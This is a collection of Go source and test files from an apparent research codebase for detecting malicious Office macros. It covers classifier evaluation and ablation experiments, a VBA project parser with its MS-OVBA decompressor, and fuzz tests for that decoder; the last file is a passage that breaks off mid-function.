		t.Fatalf("results = %d", len(results))
	}
	for _, r := range results {
		if r.Accuracy <= 0.5 || r.Accuracy > 1 {
			t.Errorf("%s accuracy = %v", r.Algorithm, r.Accuracy)
		}
		if r.AUC <= 0.5 {
			t.Errorf("%s AUC = %v", r.Algorithm, r.AUC)
		}
		if len(r.ROC) == 0 {
			t.Errorf("%s ROC missing", r.Algorithm)
		}
	}
	// BestF2 must return the maximal-F2 result (classifier ordering
	// itself is only asserted at full scale; see bench_test.go).
	best := BestF2(results, core.FeatureSetV)
	if best == nil {
		t.Fatal("BestF2 = nil")
	}
	for _, r := range results {
		if r.F2 > best.F2 {
			t.Errorf("BestF2 missed %s (%.3f > %.3f)", r.Algorithm, r.F2, best.F2)
		}
	}
	if got := BestF2(results, core.FeatureSetJ); got != nil {
		t.Errorf("BestF2(J) = %+v, want nil", got)
	}
	if s := FormatTable5(results); !strings.Contains(s, "RF") {
		t.Error("FormatTable5 missing RF")
	}
	if s := FormatFigure6(results); !strings.Contains(s, "F2") {
		t.Error("FormatFigure6 missing header")
	}
	_ = FormatFigure7(results)
}

func TestRunAblation(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	full, err := RunAblation(d, nil, 4, 1)
	if err != nil {
		t.Fatal(err)
	}
	dropped, err := RunAblation(d, []int{12, 13, 14}, 4, 1)
	if err != nil {
		t.Fatal(err)
	}
	if full.Confusion.Total() != dropped.Confusion.Total() {
		t.Error("total mismatch")
	}
	if full.Confusion.Accuracy() <= 0.5 {
		t.Errorf("full accuracy = %v", full.Confusion.Accuracy())
	}
}

func TestRunNormalizationAblation(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	norm, raw, err := RunNormalizationAblation(d, 4, 1)
	if err != nil {
		t.Fatal(err)
	}
	if norm.Confusion.Total() == 0 || raw.Confusion.Total() == 0 {
		t.Error("empty results")
	}
}

func TestFeatureImportance(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	rows, err := FeatureImportance(d, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 15 {
		t.Fatalf("rows = %d", len(rows))
	}
	total := 0.0
	for i, r := range rows {
		total += r.Importance
		if i > 0 && r.Importance > rows[i-1].Importance {
			t.Error("rows not sorted by importance")
		}
	}
	if total < 0.99 || total > 1.01 {
		t.Errorf("importances sum = %v", total)
	}
	text := FormatImportance(rows)
	if !strings.Contains(text, rows[0].Name) {
		t.Error("FormatImportance missing top feature")
	}
}

func TestDeobRecovery(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	rep := DeobRecovery(d)
	if rep.Obfuscated == 0 {
		t.Fatal("no obfuscated downloaders examined")
	}
	if rep.HiddenURL == 0 {
		t.Fatal("no hidden URLs — obfuscation too weak")
	}
	if rep.RecoveredURL*10 < rep.HiddenURL*8 {
		t.Errorf("recovered only %d of %d hidden URLs", rep.RecoveredURL, rep.HiddenURL)
	}
	if rep.MeanFolds <= 0 {
		t.Errorf("mean folds = %v", rep.MeanFolds)
	}
}

func TestActiveCurve(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	active, random, err := ActiveCurve(d, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(active.F2) == 0 || len(random.F2) == 0 {
		t.Fatal("empty curves")
	}
	// Final models (nearly all labels) must be decent on both strategies.
	if last := active.F2[len(active.F2)-1]; last < 0.6 {
		t.Errorf("final active F2 = %v", last)
	}
	text := FormatActiveCurve(active, random)
	if !strings.Contains(text, "active-F2") {
		t.Error("FormatActiveCurve header missing")
	}
}
