package experiments

import (
	"encoding/json"
	"fmt"
	"strings"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/ml"
)

// EnsembleMetrics is one evaluated configuration of the channel-ablation
// study: a single channel, the stack minus one channel, or the full
// stack, each under stratified k-fold cross-validation.
type EnsembleMetrics struct {
	// Name identifies the configuration: a channel name ("v", "entropy"),
	// "stack-minus-<channel>" for leave-one-out, or "stack".
	Name string `json:"name"`
	// Kind groups configurations: "single", "leave-one-out" or "stack".
	Kind      string  `json:"kind"`
	Accuracy  float64 `json:"accuracy"`
	Precision float64 `json:"precision"`
	Recall    float64 `json:"recall"`
	F1        float64 `json:"f1"`
	AUC       float64 `json:"auc"`
}

// EnsembleResult is the full channel-ablation report: every channel
// alone, every leave-one-out stack, and the full stacked ensemble, all on
// identical folds of the same corpus.
type EnsembleResult struct {
	Folds   int   `json:"folds"`
	Seed    int64 `json:"seed"`
	Samples int   `json:"samples"`
	// Channels is the stack's channel layout (name@version per channel).
	Channels []string `json:"channels"`
	// Singles holds one entry per channel evaluated alone.
	Singles []EnsembleMetrics `json:"singles"`
	// LeaveOneOut holds one entry per channel evaluated as the stack
	// without that channel.
	LeaveOneOut []EnsembleMetrics `json:"leave_one_out"`
	// Stack is the full stacked ensemble.
	Stack EnsembleMetrics `json:"stack"`
	// BestSingle names the single channel with the highest F1.
	BestSingle string `json:"best_single"`
	// StackDelta is Stack.F1 minus the best single channel's F1 — the
	// number the CI gate enforces to be non-negative.
	StackDelta float64 `json:"stack_delta"`
}

// StackBeatsBestSingle reports whether the full stack's held-out F1 is at
// least the best single channel's (the "every channel earns its keep"
// gate; equality passes because adding channels must at minimum not
// hurt).
func (r *EnsembleResult) StackBeatsBestSingle() bool { return r.StackDelta >= 0 }

// EnsembleConfig parameterizes RunEnsembleAblation.
type EnsembleConfig struct {
	// Folds is the cross-validation fold count (default 5).
	Folds int
	// Seed drives fold assignment and every classifier.
	Seed int64
	// Workers bounds featurization and forest concurrency (0 =
	// GOMAXPROCS). Results are identical whatever the worker count.
	Workers int
	// Trees is the per-forest size (default 100; the CI lane uses fewer).
	Trees int
}

// RunEnsembleAblation runs the per-channel ablation: each channel alone
// (its own Random Forest), the stack with each channel left out, and the
// full stacked ensemble, all cross-validated on the same folds. Rows are
// featurized once into the stack layout; every configuration slices its
// columns out of that one matrix.
func RunEnsembleAblation(d *corpus.Dataset, cfg EnsembleConfig) (*EnsembleResult, error) {
	if cfg.Folds == 0 {
		cfg.Folds = 5
	}
	labels := d.Labels()
	X := core.FeaturizeAll(core.FeatureSetStack, d.Sources(), cfg.Workers)

	chans := core.FeatureSetStack.Channels()
	names := make([]string, len(chans))
	dims := make([]int, len(chans))
	offs := make([]int, len(chans))
	res := &EnsembleResult{
		Folds:   cfg.Folds,
		Seed:    cfg.Seed,
		Samples: len(X),
	}
	for i, c := range chans {
		names[i] = c.Name
		dims[i] = c.Dim()
		if i > 0 {
			offs[i] = offs[i-1] + dims[i-1]
		}
		res.Channels = append(res.Channels, c.ID())
	}

	// project copies the selected channels of every row into fresh
	// contiguous rows (keep[i] selects channel i).
	project := func(keep []bool) [][]float64 {
		width := 0
		for c, k := range keep {
			if k {
				width += dims[c]
			}
		}
		out := make([][]float64, len(X))
		for i, row := range X {
			dst := make([]float64, 0, width)
			for c, k := range keep {
				if k {
					dst = append(dst, row[offs[c]:offs[c]+dims[c]]...)
				}
			}
			out[i] = dst
		}
		return out
	}
	summarize := func(name, kind string, cv *eval.CVResult) EnsembleMetrics {
		return EnsembleMetrics{
			Name:      name,
			Kind:      kind,
			Accuracy:  cv.Confusion.Accuracy(),
			Precision: cv.Confusion.Precision(),
			Recall:    cv.Confusion.Recall(),
			F1:        cv.Confusion.F1(),
			AUC:       cv.AUC(),
		}
	}
	stackFactory := func(sub []int) func(fold int) ml.Classifier {
		return func(fold int) ml.Classifier {
			var n []string
			var w []int
			for _, c := range sub {
				n = append(n, names[c])
				w = append(w, dims[c])
			}
			s := ml.NewStacked(n, w, cfg.Seed+int64(fold))
			if cfg.Trees > 0 {
				s.Trees = cfg.Trees
			}
			s.Workers = cfg.Workers
			return s
		}
	}

	// Each channel alone: one plain forest over the channel's columns.
	for c := range chans {
		keep := make([]bool, len(chans))
		keep[c] = true
		cv, err := eval.CrossValidate(func(fold int) ml.Classifier {
			rf := ml.NewRandomForest(cfg.Seed + int64(fold))
			if cfg.Trees > 0 {
				rf.Trees = cfg.Trees
			}
			rf.Workers = cfg.Workers
			return rf
		}, project(keep), labels, cfg.Folds, cfg.Seed)
		if err != nil {
			return nil, fmt.Errorf("ensemble single %q: %w", names[c], err)
		}
		res.Singles = append(res.Singles, summarize(names[c], "single", cv))
	}

	// Leave-one-out: the stacked ensemble without each channel.
	for drop := range chans {
		keep := make([]bool, len(chans))
		var sub []int
		for c := range chans {
			if c != drop {
				keep[c] = true
				sub = append(sub, c)
			}
		}
		cv, err := eval.CrossValidate(stackFactory(sub), project(keep), labels, cfg.Folds, cfg.Seed)
		if err != nil {
			return nil, fmt.Errorf("ensemble leave-one-out %q: %w", names[drop], err)
		}
		res.LeaveOneOut = append(res.LeaveOneOut,
			summarize("stack-minus-"+names[drop], "leave-one-out", cv))
	}

	// The full stack.
	all := make([]int, len(chans))
	for c := range all {
		all[c] = c
	}
	cv, err := eval.CrossValidate(stackFactory(all), X, labels, cfg.Folds, cfg.Seed)
	if err != nil {
		return nil, fmt.Errorf("ensemble stack: %w", err)
	}
	res.Stack = summarize("stack", "stack", cv)

	best := res.Singles[0]
	for _, s := range res.Singles[1:] {
		if s.F1 > best.F1 {
			best = s
		}
	}
	res.BestSingle = best.Name
	res.StackDelta = res.Stack.F1 - best.F1
	return res, nil
}

// JSON renders the result as indented JSON (the BENCH_ensemble.json
// artifact).
func (r *EnsembleResult) JSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// FormatEnsemble renders the ablation as an aligned text table.
func FormatEnsemble(r *EnsembleResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-20s %-14s %9s %10s %8s %7s %7s\n",
		"Config", "Kind", "Accuracy", "Precision", "Recall", "F1", "AUC")
	row := func(m EnsembleMetrics) {
		fmt.Fprintf(&sb, "%-20s %-14s %9.3f %10.3f %8.3f %7.3f %7.3f\n",
			m.Name, m.Kind, m.Accuracy, m.Precision, m.Recall, m.F1, m.AUC)
	}
	for _, m := range r.Singles {
		row(m)
	}
	for _, m := range r.LeaveOneOut {
		row(m)
	}
	row(r.Stack)
	fmt.Fprintf(&sb, "best single: %s; stack F1 delta: %+.3f\n", r.BestSingle, r.StackDelta)
	return sb.String()
}

// MarkdownEnsemble renders the ablation as a GitHub-flavored markdown
// table (the CI job-summary block).
func MarkdownEnsemble(r *EnsembleResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "| Config | Kind | Accuracy | Precision | Recall | F1 | AUC |\n")
	fmt.Fprintf(&sb, "|---|---|---|---|---|---|---|\n")
	row := func(m EnsembleMetrics) {
		fmt.Fprintf(&sb, "| %s | %s | %.3f | %.3f | %.3f | %.3f | %.3f |\n",
			m.Name, m.Kind, m.Accuracy, m.Precision, m.Recall, m.F1, m.AUC)
	}
	for _, m := range r.Singles {
		row(m)
	}
	for _, m := range r.LeaveOneOut {
		row(m)
	}
	row(r.Stack)
	fmt.Fprintf(&sb, "\n**Best single channel:** %s · **stack F1 delta:** %+.3f\n",
		r.BestSingle, r.StackDelta)
	return sb.String()
}
