package ovba

import (
	"strings"
	"testing"

	"repro/internal/cfb"
)

const testSource = `Attribute VB_Name = "Module1"
Sub AutoOpen()
    MsgBox "hello from the test"
End Sub
`

func buildProject(t *testing.T, prefix string, modules ...Module) *cfb.Storage {
	t.Helper()
	p := &Project{Name: "TestProject", Modules: modules}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, prefix); err != nil {
		t.Fatalf("WriteTo: %v", err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatalf("Bytes: %v", err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	root := f.Root
	if prefix != "" {
		root = root.Storage(prefix)
		if root == nil {
			t.Fatalf("prefix storage %q missing", prefix)
		}
	}
	return root
}

func TestProjectRoundTripRoot(t *testing.T) {
	root := buildProject(t, "",
		Module{Name: "Module1", Source: testSource, Type: ModuleProcedural},
		Module{Name: "ThisDocument", Source: "' doc module\n", Type: ModuleDocument},
	)
	p, err := ReadProject(root)
	if err != nil {
		t.Fatalf("ReadProject: %v", err)
	}
	if p.Name != "TestProject" {
		t.Errorf("Name = %q", p.Name)
	}
	if p.CodePage != 1252 {
		t.Errorf("CodePage = %d", p.CodePage)
	}
	if len(p.Modules) != 2 {
		t.Fatalf("Modules = %d: %+v", len(p.Modules), p.Modules)
	}
	if p.Modules[0].Name != "Module1" || p.Modules[0].Source != testSource {
		t.Errorf("module 0 = %q source %d bytes", p.Modules[0].Name, len(p.Modules[0].Source))
	}
	if p.Modules[0].Type != ModuleProcedural {
		t.Errorf("module 0 type = %v", p.Modules[0].Type)
	}
	if p.Modules[1].Type != ModuleDocument {
		t.Errorf("module 1 type = %v", p.Modules[1].Type)
	}
}

func TestProjectRoundTripMacrosPrefix(t *testing.T) {
	root := buildProject(t, "Macros",
		Module{Name: "NewMacros", Source: testSource},
	)
	p, err := ReadProject(root)
	if err != nil {
		t.Fatalf("ReadProject: %v", err)
	}
	if len(p.Modules) != 1 || p.Modules[0].Source != testSource {
		t.Fatalf("modules = %+v", p.Modules)
	}
}

func TestProjectLargeModule(t *testing.T) {
	big := strings.Repeat(testSource, 400) // > 4096 compressed and raw
	root := buildProject(t, "", Module{Name: "Big", Source: big})
	p, err := ReadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	if p.Modules[0].Source != big {
		t.Errorf("large module mismatch: got %d bytes, want %d", len(p.Modules[0].Source), len(big))
	}
}

func TestProjectManyModules(t *testing.T) {
	var modules []Module
	for _, name := range []string{"Alpha", "Beta", "Gamma", "Delta", "Epsilon", "Zeta"} {
		modules = append(modules, Module{Name: name, Source: "Sub " + name + "()\nEnd Sub\n"})
	}
	root := buildProject(t, "", modules...)
	p, err := ReadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Modules) != len(modules) {
		t.Fatalf("modules = %d, want %d", len(p.Modules), len(modules))
	}
	for i, m := range p.Modules {
		if m.Name != modules[i].Name {
			t.Errorf("module %d = %q, want %q (dir order must be preserved)", i, m.Name, modules[i].Name)
		}
		if !strings.Contains(m.Source, "Sub "+modules[i].Name) {
			t.Errorf("module %d source mismatch", i)
		}
	}
}

func TestReadProjectErrors(t *testing.T) {
	// No VBA storage at all.
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProject(f.Root); err == nil {
		t.Error("ReadProject succeeded without VBA storage")
	}

	// VBA storage without dir stream.
	b2 := cfb.NewBuilder()
	if err := b2.AddStream("VBA/Module1", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw2, err := b2.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f2, err := cfb.Parse(raw2)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProject(f2.Root); err == nil {
		t.Error("ReadProject succeeded without dir stream")
	}

	// Corrupt (uncompressed) dir stream.
	b3 := cfb.NewBuilder()
	if err := b3.AddStream("VBA/dir", []byte("garbage")); err != nil {
		t.Fatal(err)
	}
	raw3, err := b3.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f3, err := cfb.Parse(raw3)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProject(f3.Root); err == nil {
		t.Error("ReadProject succeeded with garbage dir stream")
	}
}

func TestReadProjectMissingModuleStream(t *testing.T) {
	// Build a valid project, then delete a module stream by rebuilding
	// without it.
	p := &Project{Name: "X", Modules: []Module{{Name: "Gone", Source: "Sub A()\nEnd Sub\n"}}}
	dir := p.buildDir("X")
	b := cfb.NewBuilder()
	if err := b.AddStream("VBA/dir", Compress(dir)); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProject(f.Root); err == nil {
		t.Error("ReadProject succeeded with missing module stream")
	}
}

func TestMBCSRoundTrip(t *testing.T) {
	s := "Café résumé" // Latin-1 representable
	if got := decodeMBCS(encodeMBCS(s)); got != s {
		t.Errorf("round trip = %q, want %q", got, s)
	}
	if got := encodeMBCS("世界"); string(got) != "??" {
		t.Errorf("non-Latin-1 encode = %q", got)
	}
}

func TestProjectStreamNames(t *testing.T) {
	root := buildProject(t, "", Module{Name: "Mod", StreamName: "StreamX", Source: "Sub A()\nEnd Sub\n"})
	if root.Storage("VBA").Stream("StreamX") == nil {
		t.Fatal("custom stream name not used")
	}
	p, err := ReadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	if p.Modules[0].StreamName != "StreamX" {
		t.Errorf("StreamName = %q", p.Modules[0].StreamName)
	}
}

func BenchmarkProjectRoundTrip(b *testing.B) {
	src := strings.Repeat(testSource, 20)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		p := &Project{Name: "Bench", Modules: []Module{{Name: "M", Source: src}}}
		bd := cfb.NewBuilder()
		if err := p.WriteTo(bd, "Macros"); err != nil {
			b.Fatal(err)
		}
		raw, err := bd.Bytes()
		if err != nil {
			b.Fatal(err)
		}
		f, err := cfb.Parse(raw)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := ReadProject(f.Root.Storage("Macros")); err != nil {
			b.Fatal(err)
		}
	}
}

func TestReadProjectLenientFallsBackToProjectStream(t *testing.T) {
	// Build a valid project, then corrupt the dir stream: the lenient
	// reader must recover the module via the PROJECT text stream and a
	// container scan.
	p := &Project{Name: "X", Modules: []Module{{Name: "Module1", Source: testSource}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, ""); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("VBA/dir", []byte("corrupt")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProject(f.Root); err == nil {
		t.Fatal("strict reader accepted corrupt dir")
	}
	got, err := ReadProjectLenient(f.Root)
	if err != nil {
		t.Fatalf("lenient reader failed: %v", err)
	}
	if len(got.Modules) != 1 || got.Modules[0].Source != testSource {
		t.Fatalf("modules = %+v", got.Modules)
	}
	if got.Modules[0].Name != "Module1" {
		t.Errorf("name = %q (PROJECT stream names not used)", got.Modules[0].Name)
	}
}

func TestReadProjectLenientScansPastPerformanceCache(t *testing.T) {
	// Module stream with a junk performance cache before the container,
	// and no usable dir/PROJECT metadata.
	src := "Sub Hidden()\n    x = 1\nEnd Sub\n"
	stream := append([]byte{0xDE, 0xAD, 0xBE, 0xEF, 0x00, 0x13}, Compress(encodeMBCS(src))...)
	b := cfb.NewBuilder()
	if err := b.AddStream("VBA/dir", []byte("junk")); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("VBA/Mystery", stream); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadProjectLenient(f.Root)
	if err != nil {
		t.Fatalf("lenient reader failed: %v", err)
	}
	found := false
	for _, m := range got.Modules {
		if m.Name == "Mystery" && m.Source == src {
			found = true
		}
	}
	if !found {
		t.Fatalf("module not recovered: %+v", got.Modules)
	}
}

func TestReadProjectLenientMatchesStrictOnValidInput(t *testing.T) {
	root := buildProject(t, "Macros", Module{Name: "NewMacros", Source: testSource})
	strict, err := ReadProject(root)
	if err != nil {
		t.Fatal(err)
	}
	lenient, err := ReadProjectLenient(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(strict.Modules) != len(lenient.Modules) ||
		strict.Modules[0].Source != lenient.Modules[0].Source {
		t.Error("lenient reader diverges on valid input")
	}
}

func TestReadProjectLenientNothingRecoverable(t *testing.T) {
	b := cfb.NewBuilder()
	if err := b.AddStream("VBA/dir", []byte("junk")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := cfb.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadProjectLenient(f.Root); err == nil {
		t.Error("empty project accepted")
	}
}
