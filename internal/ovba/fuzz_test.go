package ovba_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"repro/internal/faultinject"
	"repro/internal/hostile"
	"repro/internal/ovba"
)

// FuzzDecompress exercises the CompressedContainer decoder on arbitrary
// bytes: no panics, bounded output. Seeds include a fault-injected
// maximal-expansion bomb and bit-flipped real containers so the fuzzer
// starts inside the copy-token state machine.
func FuzzDecompress(f *testing.F) {
	comp := ovba.Compress([]byte(strings.Repeat("Dim x As Long\r\n", 50)))
	f.Add(comp)
	f.Add([]byte{0x01})
	f.Add([]byte{0x01, 0x14, 0xB0, 0x00, 0x23})
	if bomb, err := faultinject.BombContainer(512); err == nil {
		f.Add(bomb)
	}
	for _, c := range faultinject.BitFlips(comp, 43, 8) {
		f.Add(c.Data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		out, err := ovba.Decompress(data)
		if err != nil {
			return
		}
		// A container of n bytes decodes to at most ~4096 bytes per
		// 3-byte chunk header: enforce a generous linear bound.
		if len(out) > 4096*(len(data)/3+2) {
			t.Fatalf("output %d bytes from %d input bytes", len(out), len(data))
		}
	})
}

// FuzzDecompressBudget drives the decoder under a small output budget:
// whatever the input, either it decodes within the budget or the failure
// carries the taxonomy (never an untyped error, never an over-budget
// success).
func FuzzDecompressBudget(f *testing.F) {
	f.Add(ovba.Compress(bytes.Repeat([]byte("payload "), 512)))
	if bomb, err := faultinject.BombContainer(2048); err == nil {
		f.Add(bomb)
	}
	const maxOut = 64 * 1024
	f.Fuzz(func(t *testing.T, data []byte) {
		out, err := ovba.DecompressBudget(data, hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: maxOut}))
		if err != nil {
			if !errors.Is(err, ovba.ErrBadContainer) && hostile.Classify(err) == "" {
				t.Fatalf("untyped decompress failure: %v", err)
			}
			return
		}
		if len(out) > maxOut {
			t.Fatalf("budget allowed %d bytes out (max %d)", len(out), maxOut)
		}
	})
}

// FuzzCompressRoundTrip asserts the codec invariant on arbitrary payloads.
func FuzzCompressRoundTrip(f *testing.F) {
	f.Add([]byte("Sub A()\r\nEnd Sub\r\n"))
	f.Add(bytes.Repeat([]byte{0}, 5000))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		comp := ovba.Compress(data)
		out, err := ovba.Decompress(comp)
		if err != nil {
			t.Fatalf("decompress own output: %v", err)
		}
		if !bytes.Equal(out, data) {
			t.Fatalf("round trip mismatch: %d in, %d out", len(data), len(out))
		}
	})
}
