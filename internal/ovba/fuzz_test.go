package ovba

import (
	"bytes"
	"strings"
	"testing"
)

// FuzzDecompress exercises the CompressedContainer decoder on arbitrary
// bytes: no panics, bounded output.
func FuzzDecompress(f *testing.F) {
	f.Add(Compress([]byte(strings.Repeat("Dim x As Long\r\n", 50))))
	f.Add([]byte{0x01})
	f.Add([]byte{0x01, 0x14, 0xB0, 0x00, 0x23})
	f.Fuzz(func(t *testing.T, data []byte) {
		out, err := Decompress(data)
		if err != nil {
			return
		}
		// A container of n bytes decodes to at most ~4096 bytes per
		// 3-byte chunk header: enforce a generous linear bound.
		if len(out) > 4096*(len(data)/3+2) {
			t.Fatalf("output %d bytes from %d input bytes", len(out), len(data))
		}
	})
}

// FuzzCompressRoundTrip asserts the codec invariant on arbitrary payloads.
func FuzzCompressRoundTrip(f *testing.F) {
	f.Add([]byte("Sub A()\r\nEnd Sub\r\n"))
	f.Add(bytes.Repeat([]byte{0}, 5000))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		comp := Compress(data)
		out, err := Decompress(comp)
		if err != nil {
			t.Fatalf("decompress own output: %v", err)
		}
		if !bytes.Equal(out, data) {
			t.Fatalf("round trip mismatch: %d in, %d out", len(data), len(out))
		}
	})
}
