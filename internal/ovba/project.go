package ovba

import (
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"unicode/utf16"

	"repro/internal/cfb"
	"repro/internal/hostile"
)

// ModuleType distinguishes procedural modules from document/class modules.
type ModuleType int

// Module types ([MS-OVBA] §2.3.4.2.3.2.8).
const (
	ModuleProcedural ModuleType = iota + 1
	ModuleDocument
)

// Module is one VBA code module.
type Module struct {
	// Name is the VBA-visible module name (e.g. "Module1", "ThisDocument").
	Name string
	// StreamName is the name of the module's stream inside the VBA
	// storage; usually equal to Name.
	StreamName string
	// Source is the module's decompressed source code.
	Source string
	// Type is procedural (standard module) or document (ThisDocument /
	// Sheet1 style).
	Type ModuleType
	// TextOffset is the size of the performance cache preceding the
	// compressed source in the module stream.
	TextOffset uint32
}

// Project is a VBA project: the contents of a "Macros" (Word) or "_VBA_PROJECT_CUR"
// (Excel) storage, or of a vbaProject.bin part in OOXML files.
type Project struct {
	// Name is the VB project name (PROJECTNAME record).
	Name string
	// CodePage is the MBCS code page of the project's strings. The writer
	// always emits 1252; the reader decodes 1252 and ASCII-compatible
	// pages byte-wise via Latin-1.
	CodePage uint16
	// Modules holds the code modules in dir-stream order.
	Modules []Module
	// Issues records per-stream failures from a degraded (lenient) read:
	// modules whose source could not be recovered. A project with Modules
	// and Issues was partially extracted — score what survived, surface
	// what did not.
	Issues []Issue
}

// Issue is one per-stream extraction failure in a degraded project read.
type Issue struct {
	// Stream is the VBA storage stream (usually the module name).
	Stream string
	// Err is the failure, wrapped with its hostile-taxonomy class.
	Err error
}

// dir stream record IDs ([MS-OVBA] §2.3.4.2).
const (
	recSysKind         = 0x0001
	recLCID            = 0x0002
	recCodePage        = 0x0003
	recName            = 0x0004
	recDocString       = 0x0005
	recHelpFile        = 0x0006
	recHelpContext     = 0x0007
	recLibFlags        = 0x0008
	recVersion         = 0x0009
	recConstants       = 0x000C
	recRefRegistered   = 0x000D
	recModules         = 0x000F
	recTerminator      = 0x0010
	recCookie          = 0x0013
	recLCIDInvoke      = 0x0014
	recRefName         = 0x0016
	recModuleName      = 0x0019
	recModuleStream    = 0x001A
	recModuleDocString = 0x001C
	recModuleHelpCtx   = 0x001E
	recModuleProc      = 0x0021
	recModuleDoc       = 0x0022
	recModuleTerm      = 0x002B
	recModuleCookie    = 0x002C
	recModuleOffset    = 0x0031
	recModuleStreamUni = 0x0032
	recConstantsUni    = 0x003C
	recHelpFileUni     = 0x003D
	recRefNameUni      = 0x003E
	recDocStringUni    = 0x0040
	recModuleNameUni   = 0x0047
	recModuleDocUni    = 0x0048
)

// Errors reported when reading projects.
var (
	ErrNoVBAStorage = errors.New("ovba: no VBA storage found")
	ErrBadDirStream = errors.New("ovba: malformed dir stream")
)

// ReadProject parses the VBA project stored under root. root must be the
// storage that directly contains the "VBA" sub-storage (for Word documents
// that is "Macros"; for Excel "_VBA_PROJECT_CUR"; for a vbaProject.bin file
// it is the file root itself). The read is strict: the first unreadable
// module fails the whole project (use ReadProjectLenient for degraded
// extraction). Runs under the default resource budget.
func ReadProject(root *cfb.Storage) (*Project, error) {
	return ReadProjectBudget(root, hostile.NewBudget(hostile.DefaultLimits()))
}

// ReadProjectBudget is ReadProject with an explicit resource budget.
func ReadProjectBudget(root *cfb.Storage, bud *hostile.Budget) (*Project, error) {
	vbaStorage := root.Storage("VBA")
	if vbaStorage == nil {
		return nil, ErrNoVBAStorage
	}
	dirStream := vbaStorage.Stream("dir")
	if dirStream == nil {
		return nil, fmt.Errorf("%w: missing dir stream (%w)", ErrBadDirStream, hostile.ErrMalformed)
	}
	dir, err := DecompressBudget(dirStream.Data, bud)
	if err != nil {
		return nil, fmt.Errorf("dir stream: %w", err)
	}
	p := &Project{CodePage: 1252}
	if err := p.parseDir(dir); err != nil {
		return nil, err
	}
	for i := range p.Modules {
		if err := bud.CheckDeadline(); err != nil {
			return nil, err
		}
		m := &p.Modules[i]
		stream := vbaStorage.Stream(m.StreamName)
		if stream == nil {
			return nil, fmt.Errorf("%w: module stream %q missing (%w)", ErrBadDirStream, m.StreamName, hostile.ErrTruncated)
		}
		if int(m.TextOffset) > len(stream.Data) {
			return nil, fmt.Errorf("%w: module %q text offset %d beyond stream size %d (%w)",
				ErrBadDirStream, m.Name, m.TextOffset, len(stream.Data), hostile.ErrMalformed)
		}
		src, err := DecompressBudget(stream.Data[m.TextOffset:], bud)
		if err != nil {
			return nil, fmt.Errorf("module %q: %w", m.Name, err)
		}
		m.Source = decodeMBCS(src)
	}
	return p, nil
}

// parseDir walks the decompressed dir stream records.
func (p *Project) parseDir(dir []byte) error {
	le := binary.LittleEndian
	pos := 0
	var cur *Module
	flush := func() {
		if cur != nil {
			p.Modules = append(p.Modules, *cur)
			cur = nil
		}
	}
	for pos+6 <= len(dir) {
		id := le.Uint16(dir[pos:])
		size := int(le.Uint32(dir[pos+2:]))
		pos += 6
		if id == recTerminator {
			break
		}
		if pos+size > len(dir) {
			return fmt.Errorf("%w: record %#x size %d overruns stream (%w)", ErrBadDirStream, id, size, hostile.ErrTruncated)
		}
		body := dir[pos : pos+size]
		pos += size
		switch id {
		case recCodePage:
			if size >= 2 {
				p.CodePage = le.Uint16(body)
			}
		case recName:
			p.Name = decodeMBCS(body)
		case recVersion:
			// PROJECTVERSION's size field covers only the 4 reserved
			// bytes; 6 more bytes (major uint32, minor uint16) follow.
			if pos+6 <= len(dir) {
				pos += 6
			}
		case recModuleName:
			flush()
			cur = &Module{Name: decodeMBCS(body), Type: ModuleProcedural}
		case recModuleStream:
			if cur != nil {
				cur.StreamName = decodeMBCS(body)
			}
		case recModuleOffset:
			if cur != nil && size >= 4 {
				cur.TextOffset = le.Uint32(body)
			}
		case recModuleDoc:
